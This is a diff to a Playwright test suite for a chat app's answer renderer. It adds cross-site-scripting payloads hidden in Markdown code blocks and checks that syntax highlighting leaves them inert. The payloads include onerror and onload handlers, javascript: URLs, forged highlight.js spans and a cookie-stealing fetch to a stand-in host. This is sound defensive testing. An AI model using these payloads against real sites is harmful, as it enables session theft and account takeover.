@@ -56,17 +56,32 @@ MODEL_PAYLOADS = [
     f"<base href=javascript:{RUN}//>",
     f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">',
     f"<video><source onerror={RUN}></video>",
+    # Highlighted code: highlight.js builds <span class="hljs-…"> from the
+    # block's text; markup in the code, in its language name or imitating
+    # highlight.js's own spans must come out as text.
+    f"```sql\nSELECT '<img src=x onerror={RUN}>' AS x -- </span><script>{RUN}</script>\n```",
+    f'```html\n<span class="hljs-keyword" onclick="{RUN}">x</span><img src=x onerror={RUN}>\n```',
+    f'```"><img src=x onerror={RUN}>\n{RUN}\n```',
+    f"```javascript onload={RUN}\nfetch('https://evil.example/'+document.cookie)\n```",
+    f"```pii revealable\n[전화번호-1] <svg onload={RUN}>\n```",
+    f'```\n<style>* {{ display: none }}</style><math><mi xlink:href="javascript:{RUN}">x</mi></math>\n```',
+    f'<code class="language-sql" onmouseover="{RUN}">SELECT 1</code>',
+    '<span class="hljs-keyword">not from highlight.js</span>',
 ]
 
 # What a rendered answer may contain, nothing else.
 ALLOWED_TAGS = {
     "DIV", "P", "BR", "HR", "STRONG", "EM", "DEL", "S", "CODE", "PRE", "BLOCKQUOTE", "UL", "OL", "LI",
     "H1", "H2", "H3", "H4", "H5", "H6", "TABLE", "THEAD", "TBODY", "TR", "TH", "TD", "A", "SPAN",
+    "BUTTON",  # the page's own copy button on a code block (checked below)
 }  # fmt: skip
 
 AUDIT_DOM = """
 (root) => {
   const bad = [];
+  const CODE_CLASS = /^(language-[\\w+#.-]+ )?hljs$|^language-[\\w+#.-]+$/;
+  const SCOPE = String.raw`(hljs-[\\w-]+|[\\w-]+_+)`;
+  const SPAN_CLASS = new RegExp(String.raw`^(pii( \\w+)*|` + `${SCOPE}( ${SCOPE})*)$`);
   for (const node of root.querySelectorAll("*")) {
     if (!ALLOWED.includes(node.tagName)) bad.push("tag " + node.tagName);
     for (const attr of node.attributes) {
@@ -74,10 +89,21 @@ AUDIT_DOM = """
       if (name.startsWith("on") || name === "style" || name === "src" || name === "srcdoc" || name === "action"
           || name === "formaction" || name === "xlink:href") bad.push(node.tagName + "@" + name);
       if (name === "href" && !/^(https?:|mailto:)/i.test(attr.value.trim())) bad.push("href " + attr.value);
-      if (name === "class" && node.tagName !== "SPAN" && node.tagName !== "DIV") {
+      // Classes: the page's own on DIV/SPAN (chips, blocks), a code block's
+      // language and highlight.js's mark on CODE, its scopes on SPAN.
+      if (name === "class" && node.tagName === "CODE" && !CODE_CLASS.test(attr.value)) {
+        bad.push("CODE class " + attr.value);
+      } else if (name === "class" && node.tagName === "SPAN" && !SPAN_CLASS.test(attr.value)) {
+        bad.push("SPAN class " + attr.value);
+      } else if (name === "class" && !["SPAN", "DIV", "CODE", "BUTTON"].includes(node.tagName)) {
         bad.push(node.tagName + " class " + attr.value);
       }
+      if (node.tagName === "BUTTON" && !(["type", "class", "title"].includes(name))) bad.push("BUTTON@" + name);
     }
+    if (node.tagName === "BUTTON" && node.className !== "copy-code") bad.push("button " + node.outerHTML);
+    // highlight.js's spans hold text only (and chips), never markup of their own.
+    const scoped = node.tagName === "SPAN" && /^hljs-/.test(node.className);
+    if (scoped && [...node.children].some((c) => c.tagName !== "SPAN")) bad.push("hljs " + node.outerHTML);
     if (node.tagName === "SPAN" && node.classList.contains("pii")
         && (node.children.length || !/^\\[[^\\]]+-\\d+\\]$/.test(node.textContent))) bad.push("chip " + node.outerHTML);
   }
@@ -122,6 +148,37 @@ def test_the_renderer_neutralises_every_payload(chat_env, pages):
     assert "<script>" in shown and "onerror" in shown
     chips = page.locator("#log .pii").all_inner_texts()
     assert chips and set(chips) == {"[전화번호-1]"}
+    # Code blocks were highlighted (so the payloads went through highlight.js) …
+    assert page.locator("#log pre code.hljs .hljs-keyword").count() >= 2
+    # … and a span the model wrote is not one: spans come from highlight.js only.
+    assert "not from highlight.js" in shown
+    assert page.locator("#log span.hljs-keyword", has_text="not from highlight.js").count() == 0
+    nothing_ran(page, pages)
+
+
+def test_highlighted_code_blocks_through_the_whole_stack(chat_env, pages):
+    """A streamed answer with hostile code blocks: highlighted, inert, and
+    the copy button copies the code as text."""
+    code_payloads = [p for p in MODEL_PAYLOADS if p.startswith("```")]
+    chat_env.fake.script = [text("\n\n".join(code_payloads))]
+    page = open_chat(chat_env, pages)
+    page.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=chat_env.url(""))
+    page.fill("#text", "코드 보여줘")
+    page.press("#text", "Enter")
+    page.wait_for_function("() => !document.querySelector('.working') && document.querySelector('.row.assistant pre')")
+    answer = page.locator(".row.assistant .markdown")
+    assert answer.evaluate(f"root => ({AUDIT_DOM})(root)") == []
+    assert page.locator(".row.assistant pre code.hljs").count() == len(code_payloads)
+    sql = next(n for n, p in enumerate(code_payloads) if p.startswith("```sql"))
+    page.locator(".row.assistant pre").nth(sql).hover()
+    page.locator(".row.assistant .copy-code").nth(sql).click()
+    page.wait_for_function("() => navigator.clipboard.readText().then(t => t.startsWith('SELECT'))")
+    copied = page.evaluate("navigator.clipboard.readText()")
+    assert copied.startswith("SELECT '<img src=x onerror=") and "</span><script>" in copied
+    nothing_ran(page, pages)
+    page.reload()
+    page.wait_for_selector(".row.assistant pre code.hljs")
+    assert page.locator(".row.assistant .markdown").evaluate(f"root => ({AUDIT_DOM})(root)") == []
     nothing_ran(page, pages)
 
 
